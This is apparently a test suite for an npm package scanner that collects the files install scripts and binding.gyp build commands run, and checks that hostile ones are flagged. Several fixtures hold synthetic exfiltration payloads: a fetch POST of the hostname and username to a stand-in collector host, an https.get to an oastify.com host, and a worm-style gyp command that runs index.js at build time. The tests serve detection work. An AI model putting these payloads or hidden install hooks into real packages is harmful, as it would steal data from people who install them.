/**
 * The files an install script runs, kept while the tarball streams (src/sources/npm/install-code.ts):
 * what is kept, in which order it may arrive, what is missing or unread, and the bounds.
 */
import { describe, expect, test } from 'vitest';
import { readTarball } from '../../src/sources/npm/tarball.js';
import { MAX_SCANNED_CHARS, readInstallJavaScript } from '../../src/checks/lib/js-code.js';
import { InstallCodeCollector, LargeCodeBudget } from '../../src/sources/npm/install-code.js';
import { HIDDEN_SCRIPT } from '../../src/checks/lib/install-hooks.js';
import { loadTarball } from './fixtures.js';
import { makeTgz, type TarEntry } from './make-tgz.js';

async function installCode(entries: TarEntry[] | Buffer, commands: string[]) {
  const result = await readTarball(Buffer.isBuffer(entries) ? entries : makeTgz(entries), {}, commands);
  if (result.status !== 'ok') throw new Error(`expected ok, got: ${result.reason}`);
  return result.facts.installCode;
}

const MiB = 1024 * 1024;
const manifest = (scripts: Record<string, string> = {}) => JSON.stringify({ name: 'p', version: '1.0.0', scripts });

describe('installCode', () => {
  test("esbuild's real tarball: its postinstall's install.js is kept whole with the lib/main.js it names by folder path, and both read clean", async () => {
    const code = await installCode(loadTarball('esbuild', '0.28.2'), ['node install.js']);
    expect(code?.files.map((f) => [f.path, f.language, f.size, f.truncated])).toEqual([
      ['install.js', 'javascript', 11773, false],
      ['lib/main.js', 'javascript', 97463, false],
    ]);
    expect(code?.missing).toEqual([]);
    expect(code!.files.map((f) => readInstallJavaScript(f.text))).toEqual([[], []]);
  });

  test("`node .` runs the package's own folder: the file its package.json's `main` names, else its index.js", async () => {
    const withMain = await installCode(
      [
        { path: 'package/package.json', body: JSON.stringify({ name: 'p', version: '1.0.0', main: './build/app.js', scripts: { postinstall: 'node . --postinstall' } }) },
        { path: 'package/build/app.js', body: "require('./steal')" },
        { path: 'package/build/steal.js', body: 'steal()' },
        { path: 'package/index.js', body: 'unused()' },
      ],
      [],
    );
    expect(withMain?.files.map((f) => f.path)).toEqual(['build/app.js', 'build/steal.js']);
    expect(withMain?.missing).toEqual([]);
    const noMain = await installCode(
      [
        { path: 'package/package.json', body: manifest({ postinstall: 'node .' }) },
        { path: 'package/index.js', body: 'run()' },
      ],
      ['node .'],
    );
    expect(noMain?.files.map((f) => f.path)).toEqual(['index.js']);
  });

  test('`npm run x` in an install script: the file the script x of the same package.json runs is read', async () => {
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest({ preinstall: 'npm run prep --silent', prep: 'start /B node lib/prep.js' }) },
        { path: 'package/lib/prep.js', body: 'prep()' },
      ],
      [],
    );
    expect(code?.files.map((f) => f.path)).toEqual(['lib/prep.js']);
  });

  test("the tarball's own package.json names the commands too; without any, nothing is kept", async () => {
    // esbuild's archive holds install.js before package.json: known only from the archive, it is named unread.
    expect(await installCode(loadTarball('esbuild', '0.28.2'), [])).toEqual({ files: [], missing: [], unread: ['install.js'], unreadCauses: { 'install.js': { cap: 'not-kept' } } });
    expect(await installCode([{ path: 'package/package.json', body: manifest() }, { path: 'package/index.js', body: 'x' }], [])).toBeUndefined();
  });

  test("commands only in the tarball's package.json: files after it are kept, a file before it is unread", async () => {
    const code = await installCode(
      [
        { path: 'package/early.js', body: 'early()' },
        { path: 'package/package.json', body: manifest({ preinstall: 'node early.js', postinstall: 'node late.js' }) },
        { path: 'package/late.js', body: 'late()' },
      ],
      [],
    );
    expect(code?.files.map((f) => [f.path, f.text])).toEqual([['late.js', 'late()']]);
    // Nothing was kept before a command was known (a registry manifest without the script is manifest-confusion's finding).
    expect(code?.unread).toEqual(['early.js']);
    expect(code?.missing).toEqual([]);
  });

  test("a script the registry says exists but does not show: small code files are kept, for the archive's package.json to name", async () => {
    const code = await installCode(
      [
        { path: 'package/early.js', body: 'early()' },
        { path: 'package/package.json', body: manifest({ postinstall: 'node early.js' }) },
      ],
      [HIDDEN_SCRIPT],
    );
    expect(code).toEqual({ files: [{ path: 'early.js', language: 'javascript', size: 7, text: 'early()', truncated: false }], missing: [], unread: [] });
  });

  test('node resolves extensions and index files; the modules a script loads are followed', async () => {
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest({ postinstall: 'node scripts/post' }) },
        { path: 'package/scripts/post/index.js', body: "require('../../lib/a'); import('./b.mjs')" },
        { path: 'package/scripts/post/b.mjs', body: "import x from '../../lib/c.js'" },
        { path: 'package/lib/a.js', body: "require('fs'); require('./native.node')" },
        { path: 'package/lib/c.js', body: 'c' },
        { path: 'package/lib/unrelated.js', body: 'u' },
      ],
      ['node scripts/post'],
    );
    expect(code?.files.map((f) => f.path)).toEqual(['scripts/post/index.js', 'lib/a.js', 'scripts/post/b.mjs', 'lib/c.js']);
    // A loaded module the archive lacks (a native addon built at install) is neither missing nor unread.
    expect(code?.missing).toEqual([]);
    expect(code?.unread).toEqual([]);
  });

  test('a file the install code runs by a path built from its folder is read too (synthetic, shaped like the November 2025 worm: a launcher spawning a second file)', async () => {
    const launcher = "const { spawn } = require('child_process');\nconst path = require('path');\nspawn(process.execPath, [path.join(__dirname, 'lib', 'env.js')], { stdio: 'ignore' });";
    const payload = "const os = require('os');\nfetch('https://collector.example/c', { method: 'POST', body: JSON.stringify({ h: os.hostname(), u: os.userInfo().username }) });";
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest({ preinstall: 'node setup.js' }) },
        { path: 'package/lib/env.js', body: payload },
        { path: 'package/setup.js', body: launcher },
      ],
      ['node setup.js'],
    );
    expect(code?.files.map((f) => [f.path, f.language])).toEqual([['setup.js', 'javascript'], ['lib/env.js', 'javascript']]);
    expect(readInstallJavaScript(code!.files[0]!.text)).toEqual([]);
    expect(readInstallJavaScript(code!.files[1]!.text).map((f) => f.flag)).toContain('exfiltration');
  });

  test('a file named by a folder path but too large to keep is unread, one not shipped names nothing', async () => {
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest({ preinstall: 'node setup.js' }) },
        { path: 'package/big.js', body: 'x'.repeat(MiB + 1) },
        { path: 'package/setup.js', body: "spawn('bun', [path.join(__dirname, 'big.js')]); spawn('bun', [path.join(__dirname, 'gone.js')]);" },
      ],
      ['node setup.js'],
    );
    expect(code?.files.map((f) => f.path)).toEqual(['setup.js']);
    expect(code?.unread).toEqual(['big.js']);
    expect(code?.missing).toEqual([]);
  });

  test('a module it loads is read to 1 MiB; a loaded JSON file or addon is data, neither read nor unread', async () => {
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest({ postinstall: 'node install.js' }) },
        { path: 'package/install.js', body: "require('./lib/big'); require('./package.json'); require('./data/x.json'); require('./build/addon.node')" },
        { path: 'package/lib/big.js', body: 'x'.repeat(900 * 1024) },
        { path: 'package/data/x.json', body: '{}' },
        { path: 'package/build/addon.node', body: 'binary' },
      ],
      ['node install.js'],
    );
    expect(code?.files.map((f) => [f.path, f.text.length])).toEqual([
      ['install.js', 104],
      ['lib/big.js', 900 * 1024],
    ]);
    expect([code?.missing, code?.unread]).toEqual([[], []]);
  });

  test('a chain of modules longer than the reader takes: 256 files read, the rest unread', async () => {
    const chain: TarEntry[] = Array.from({ length: 260 }, (_, i) => ({ path: `package/lib/m${i}.js`, body: `require('./m${i + 1}')` }));
    const code = await installCode([{ path: 'package/package.json', body: manifest({ postinstall: 'node lib/m0.js' }) }, ...chain], ['node lib/m0.js']);
    expect(code?.files).toHaveLength(256);
    expect(code?.unread).toEqual(['lib/m256.js']);
  });

  test('a file the command names and the archive lacks is missing; paths outside the package name nothing', async () => {
    const code = await installCode([{ path: 'package/package.json', body: manifest() }], ['node scripts/gone.js && node ../../../etc/x.js && node /usr/lib/y.js']);
    expect(code).toEqual({ files: [], missing: ['scripts/gone.js'], unread: [] });
  });

  test('shell and Python files are kept with their language', async () => {
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest() },
        { path: 'package/setup.sh', body: 'echo hi' },
        { path: 'package/build.py', body: 'print(1)' },
      ],
      ['sh ./setup.sh', 'python3 build.py'],
    );
    expect(code?.files.map((f) => [f.path, f.language])).toEqual([
      ['setup.sh', 'shell'],
      ['build.py', 'python'],
    ]);
  });

  test('a later entry for the same path replaces the earlier one, as extraction does', async () => {
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest() },
        { path: 'package/install.js', body: 'honest()' },
        { path: 'package/install.js', body: 'require("https").get("https://x.oastify.com/" + require("os").hostname())' },
      ],
      ['node install.js'],
    );
    expect(code?.files).toHaveLength(1);
    expect(readInstallJavaScript(code!.files[0]!.text).map((f) => f.flag)).toContain('exfiltration');
  });

  test('files under node_modules/ are not the package’s own', async () => {
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest() },
        { path: 'package/node_modules/install.js', body: 'bundled' },
      ],
      ['node node_modules/install.js'],
    );
    expect(code?.files).toEqual([]);
    expect(code?.missing).toEqual(['node_modules/install.js']);
  });

  test('a multi-MiB file a command names is read whole; many other files do not crowd it out', async () => {
    const filler: TarEntry[] = Array.from({ length: 40 }, (_, i) => ({ path: `package/lib/f${i}.js`, body: 'x'.repeat(200 * 1024) }));
    const code = await installCode(
      [{ path: 'package/package.json', body: manifest() }, ...filler, { path: 'package/install.js', body: 'y'.repeat(4 * MiB) }],
      ['node install.js'],
    );
    const file = code?.files[0];
    expect([file?.path, file?.size, file?.truncated, file?.text.length]).toEqual(['install.js', 4 * MiB, false, 4 * MiB]);
  });

  test('a file over the cap is kept to it and said to be truncated', async () => {
    const code = await installCode([{ path: 'package/package.json', body: manifest() }, { path: 'package/install.js', body: 'y'.repeat(9 * MiB) }], ['node install.js']);
    const file = code?.files[0];
    expect([file?.size, file?.truncated, file?.text.length]).toEqual([9 * MiB, true, MAX_SCANNED_CHARS]);
  });
});

describe('installCode: the budgets for bytes past the first MiB', () => {
  const capOf = (collector: InstallCodeCollector, path: string, size: number) => collector.file(path, size)?.cap;

  test('an archive lends past the first MiB up to its own budget; the rest is kept to 1 MiB', () => {
    const collector = new InstallCodeCollector(['node a.js && node b.js && node c.js'], new LargeCodeBudget(64 * MiB));
    expect([capOf(collector, 'a.js', 5 * MiB), capOf(collector, 'b.js', 5 * MiB), capOf(collector, 'c.js', 5 * MiB)]).toEqual([5 * MiB, 5 * MiB, MiB]);
  });

  test('archives read at once share the process budget, and give it back with their facts', () => {
    const budget = new LargeCodeBudget(3 * MiB);
    const first = new InstallCodeCollector(['node install.js'], budget);
    const second = new InstallCodeCollector(['node install.js'], budget);
    expect(capOf(first, 'install.js', 3 * MiB)).toBe(3 * MiB);
    expect(capOf(second, 'install.js', 3 * MiB)).toBe(MiB);
    first.facts(['node install.js']);
    const third = new InstallCodeCollector(['node install.js'], budget);
    expect(capOf(third, 'install.js', 3 * MiB)).toBe(3 * MiB);
    // Reading stopped (a cap, a corrupt archive): closing gives it back too, once.
    third.close();
    third.close();
    expect(capOf(new InstallCodeCollector(['node install.js'], budget), 'install.js', 4 * MiB)).toBe(4 * MiB);
  });

  test('a later entry for the same file gives back what the earlier one was lent', () => {
    const budget = new LargeCodeBudget(2 * MiB);
    const collector = new InstallCodeCollector(['node install.js'], budget);
    expect(capOf(collector, 'install.js', 3 * MiB)).toBe(3 * MiB);
    expect(capOf(collector, 'install.js', 3 * MiB)).toBe(3 * MiB);
  });
});

describe('binding.gyp: node-gyp runs its commands (gyp-commands.ts)', () => {
  // The June 2026 binding.gyp worm: no install script in package.json; the build file runs index.js.
  const wormGyp = JSON.stringify({ targets: [{ target_name: 'Setup', type: 'none', sources: ['<!(node index.js > /dev/null 2>&1 && echo stub.c)'] }] });

  test('without any install script, the build file is read and the file its command runs is kept', async () => {
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest() },
        { path: 'package/binding.gyp', body: wormGyp },
        { path: 'package/index.js', body: 'payload()' },
      ],
      [],
    );
    expect(code?.files.map((f) => [f.path, f.language])).toEqual([
      ['binding.gyp', 'gyp'],
      ['index.js', 'javascript'],
    ]);
    expect(code?.missing).toEqual([]);
    expect(code?.unread).toEqual([]);
  });

  test('a file before the build file is kept when the registry names node-gyp, else named unread', async () => {
    const entries: TarEntry[] = [
      { path: 'package/package.json', body: manifest() },
      { path: 'package/aa.js', body: 'payload()' },
      { path: 'package/binding.gyp', body: wormGyp.replace('index.js', 'aa.js') },
    ];
    const known = await installCode(entries, ['node-gyp rebuild']);
    expect(known?.files.map((f) => f.path)).toEqual(['binding.gyp', 'aa.js']);
    const unknown = await installCode(entries, []);
    expect(unknown?.files.map((f) => f.path)).toEqual(['binding.gyp']);
    expect(unknown?.unread).toEqual(['aa.js']);
  });

  test('a second reading wants what the first one named too late (reread), and reads it', async () => {
    const entries: TarEntry[] = [
      { path: 'package/aa.js', body: 'payload()' },
      { path: 'package/package.json', body: manifest() },
      { path: 'package/binding.gyp', body: wormGyp.replace('index.js', 'aa.js') },
    ];
    const first = await readTarball(makeTgz(entries), {}, []);
    expect(first.status === 'ok' && first.reread).toEqual(['aa.js']);
    const second = await readTarball(makeTgz(entries), {}, [], ['aa.js']);
    expect(second.status === 'ok' && second.facts.installCode?.files.map((f) => f.path)).toEqual(['binding.gyp', 'aa.js']);
    expect(second.status === 'ok' && second.reread).toBeUndefined();
    // Commands known from the start (the registry's manifest): a small file is kept in the pool, nothing to read again.
    const known = await readTarball(makeTgz(entries), {}, ['node-gyp rebuild']);
    expect(known.status === 'ok' && known.reread).toBeUndefined();
    // The registry names another script (manifest confusion): a large file before the package.json that names it is read again.
    const confused: TarEntry[] = [
      { path: 'package/big.js', body: `payload();${' '.repeat(MiB + 1)}` },
      { path: 'package/package.json', body: manifest({ postinstall: 'node big.js' }) },
    ];
    const differing = await readTarball(makeTgz(confused), {}, ['node other.js']);
    expect(differing.status === 'ok' && differing.reread).toEqual(['big.js']);
  });

  test.each([
    // Named by the build file's includes list (a path outside the package is not followed).
    ['an include the build file names', "{ 'includes': ['gyp/shared.gypi', '../outside.gypi'], 'targets': [] }", 'gyp/shared.gypi'],
    // node-gyp's configure adds these from the folder it builds in, unasked; absent, they are not missed.
    ['common.gypi beside it', "{ 'targets': [{ 'target_name': 'a', 'sources': ['a.cc'] }] }", 'common.gypi'],
    ['config.gypi beside it', "{ 'targets': [{ 'target_name': 'a', 'sources': ['a.cc'] }] }", 'config.gypi'],
  ])('%s is read as a build file, and the file its command runs is kept', async (_label, gyp, included) => {
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest() },
        { path: 'package/binding.gyp', body: gyp },
        { path: `package/${included}`, body: wormGyp },
        { path: 'package/index.js', body: 'payload()' },
      ],
      [],
    );
    expect(code?.files.map((f) => [f.path, f.language])).toEqual([
      ['binding.gyp', 'gyp'],
      [included, 'gyp'],
      ['index.js', 'javascript'],
    ]);
    expect(code?.missing).toEqual([]);
    expect(code?.unread).toEqual([]);
  });

  test('`gypfile: false` in the package.json: npm builds nothing, nothing is read', async () => {
    const optedOut = JSON.stringify({ name: 'p', version: '1.0.0', gypfile: false });
    expect(await installCode([{ path: 'package/package.json', body: optedOut }, { path: 'package/binding.gyp', body: wormGyp }], [])).toBeUndefined();
  });

  test('node-gyp --directory names the build file it reads', async () => {
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest({ install: 'node-gyp rebuild --directory=src' }) },
        { path: 'package/src/binding.gyp', body: "{'targets': [{'action': ['node', 'gen.js']}]}" },
        { path: 'package/src/gen.js', body: 'gen()' },
      ],
      ['node-gyp rebuild --directory=src'],
    );
    // Its commands run in its folder.
    expect(code?.files.map((f) => [f.path, f.language])).toEqual([
      ['src/binding.gyp', 'gyp'],
      ['src/gen.js', 'javascript'],
    ]);
    expect(code?.missing).toEqual([]);
  });
});

/** A bundled package's package.json. */
const bundledManifest = (name: string, extra: Record<string, unknown> = {}) => JSON.stringify({ name, version: '1.0.0', ...extra });
const gypRunning = (file: string) => JSON.stringify({ targets: [{ target_name: 'a', sources: [`<!(node ${file} > /dev/null && echo a.c)`] }] });

describe("installCode: the packages the tarball bundles under node_modules/ (each run in its folder)", () => {
  test('nested and scoped bundles: each command runs in its own folder, files named by their paths in the tarball', async () => {
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest() },
        { path: 'package/node_modules/a/package.json', body: bundledManifest('a', { scripts: { postinstall: 'node install.js' } }) },
        { path: 'package/node_modules/a/install.js', body: "require('./lib/x')" },
        { path: 'package/node_modules/a/lib/x.js', body: 'x()' },
        { path: 'package/node_modules/a/node_modules/@s/b/package.json', body: bundledManifest('@s/b', { scripts: { preinstall: 'sh ./setup.sh' } }) },
        { path: 'package/node_modules/a/node_modules/@s/b/setup.sh', body: 'echo hi' },
        { path: 'package/node_modules/plain/package.json', body: bundledManifest('plain') },
        { path: 'package/node_modules/plain/index.js', body: 'plain()' },
      ],
      [],
    );
    // Breadth first: the files the commands name, then what they load.
    expect(code?.files.map((f) => [f.path, f.language])).toEqual([
      ['node_modules/a/install.js', 'javascript'],
      ['node_modules/a/node_modules/@s/b/setup.sh', 'shell'],
      ['node_modules/a/lib/x.js', 'javascript'],
    ]);
    expect(code?.unread).toEqual([]);
    expect(code?.unreadBundled).toBeUndefined();
  });

  test('`../` from a bundled folder resolves as the shell would: into the bundling package or another bundled one, never out of the tarball', async () => {
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest() },
        { path: 'package/node_modules/h/package.json', body: bundledManifest('h', { scripts: { install: 'node ../../lib/setup.js && node ../other/run.js && node ../../../out.js' } }) },
        { path: 'package/lib/setup.js', body: 'setup()' },
        { path: 'package/node_modules/other/run.js', body: 'run()' },
      ],
      [],
    );
    // Both came after the command was known: lib/setup.js is the package's, kept as a small code file; other's run.js is wanted by name.
    expect(code?.files.map((f) => f.path)).toEqual(['lib/setup.js', 'node_modules/other/run.js']);
    expect(code?.missing).toEqual([]);
  });

  test('a bundled binding.gyp: node-gyp runs it (its commands in its folder) unless its package.json says `gypfile: false`', async () => {
    const files = (helper: string): TarEntry[] => [
      { path: 'package/package.json', body: manifest() },
      { path: 'package/node_modules/h/package.json', body: helper },
      { path: 'package/node_modules/h/binding.gyp', body: gypRunning('index.js') },
      { path: 'package/node_modules/h/index.js', body: 'payload()' },
    ];
    const built = await installCode(files(bundledManifest('h')), []);
    expect(built?.files.map((f) => [f.path, f.language])).toEqual([
      ['node_modules/h/binding.gyp', 'gyp'],
      ['node_modules/h/index.js', 'javascript'],
    ]);
    expect(await installCode(files(bundledManifest('h', { gypfile: false })), [])).toBeUndefined();
    // With an install script of its own npm adds no `node-gyp rebuild` (install-hooks.ts lists none), but the script may
    // run node-gyp by another name: the build file is read, as the package's own is.
    const own = await installCode(files(bundledManifest('h', { scripts: { install: 'node index.js' } })), []);
    expect(own?.files.map((f) => f.path)).toEqual(['node_modules/h/index.js', 'node_modules/h/binding.gyp']);
  });

  test("the package's own binding.gyp in a sub-folder: a command's `../x.js` runs the package's file", async () => {
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest({ install: 'node-gyp rebuild --directory=native' }) },
        { path: 'package/native/binding.gyp', body: gypRunning('../tools/gen.js') },
        { path: 'package/tools/gen.js', body: 'gen()' },
      ],
      ['node-gyp rebuild --directory=native'],
    );
    expect(code?.files.map((f) => f.path)).toEqual(['native/binding.gyp', 'tools/gen.js']);
  });

  test('a file before the bundled package.json that names it: unread, then read on a second reading (rereadBundled)', async () => {
    const entries: TarEntry[] = [
      { path: 'package/node_modules/h/aa.js', body: 'payload()' },
      { path: 'package/package.json', body: manifest() },
      { path: 'package/node_modules/h/package.json', body: bundledManifest('h', { scripts: { postinstall: 'node aa.js' } }) },
    ];
    const first = await readTarball(makeTgz(entries), {}, []);
    if (first.status !== 'ok') throw new Error(first.reason);
    expect(first.facts.installCode).toEqual({ files: [], missing: [], unread: ['node_modules/h/aa.js'], unreadCauses: { 'node_modules/h/aa.js': { cap: 'not-kept' } }, unreadBundled: ['node_modules/h/aa.js'] });
    expect(first.reread).toBeUndefined();
    expect(first.rereadBundled).toEqual(['node_modules/h/aa.js']);
    const second = await readTarball(makeTgz(entries), {}, [], [], first.rereadBundled);
    if (second.status !== 'ok') throw new Error(second.reason);
    expect(second.facts.installCode).toEqual({ files: [{ path: 'node_modules/h/aa.js', language: 'javascript', size: 9, text: 'payload()', truncated: false }], missing: [], unread: [] });
    expect(second.rereadBundled).toBeUndefined();
  });

  test("many bundled packages cannot push the package's own install code out: their files have caps of their own, and those past them are listed", async () => {
    const helpers = Array.from({ length: 40 }, (_, i) => `h${String(i).padStart(2, '0')}`);
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest({ postinstall: 'node own.js' }) },
        ...helpers.flatMap((name): TarEntry[] => [
          { path: `package/node_modules/${name}/package.json`, body: bundledManifest(name, { scripts: { postinstall: 'node run.js' } }) },
          { path: `package/node_modules/${name}/run.js`, body: `${name}()` },
        ]),
        { path: 'package/own.js', body: 'own()' },
      ],
      ['node own.js'],
    );
    expect(code?.files[0]?.path).toBe('own.js');
    expect(code?.files).toHaveLength(17);
    expect(code?.unreadBundled).toEqual(helpers.slice(16).map((name) => `node_modules/${name}/run.js`));
    expect(code?.unread).toEqual(code?.unreadBundled);
  });

  test("a bundled package that runs nothing: its files are not pooled, and nothing is kept of a package that runs nothing at all", async () => {
    const entries: TarEntry[] = [
      { path: 'package/package.json', body: manifest() },
      { path: 'package/node_modules/quiet/package.json', body: bundledManifest('quiet') },
      { path: 'package/node_modules/quiet/index.js', body: 'quiet()' },
    ];
    expect(await installCode(entries, [])).toBeUndefined();
    // A command of the package's own names the bundled file: it is read, as any file that command names.
    const named = await installCode(entries, ['node node_modules/quiet/index.js']);
    expect(named?.files.map((f) => f.path)).toEqual(['node_modules/quiet/index.js']);
    // A file of the package's own loads it, and comes after it: seen, not kept (its package runs nothing), read on a second reading.
    const loaded = [...entries, { path: 'package/own.js', body: "require('./node_modules/quiet/index.js')" }];
    const result = await readTarball(makeTgz(loaded), {}, ['node own.js']);
    if (result.status !== 'ok') throw new Error(result.reason);
    expect(result.facts.installCode?.files.map((f) => f.path)).toEqual(['own.js']);
    expect(result.facts.installCode?.unread).toEqual(['node_modules/quiet/index.js']);
    expect(result.reread).toEqual(['node_modules/quiet/index.js']);
  });
});

describe('installCode: a thousand bundled packages each with a postinstall', () => {
  test('what is read stays bounded: 16 files of theirs, the rest listed (256 in unread, 64 of them in unreadBundled) and held', async () => {
    const names = Array.from({ length: 1000 }, (_, i) => `p${String(i).padStart(4, '0')}`);
    const code = await installCode(
      [
        { path: 'package/package.json', body: manifest() },
        ...names.flatMap((name): TarEntry[] => [
          { path: `package/node_modules/${name}/package.json`, body: bundledManifest(name, { scripts: { postinstall: 'node run.js' } }) },
          { path: `package/node_modules/${name}/run.js`, body: `${name}();`.padEnd(1024, ' ') },
        ]),
      ],
      [],
    );
    expect(code?.files).toHaveLength(16);
    expect(code?.unread).toHaveLength(256);
    expect(code?.unreadBundled).toHaveLength(64);
    expect(code?.unreadBundled?.[0]).toBe('node_modules/p0016/run.js');
  });
});
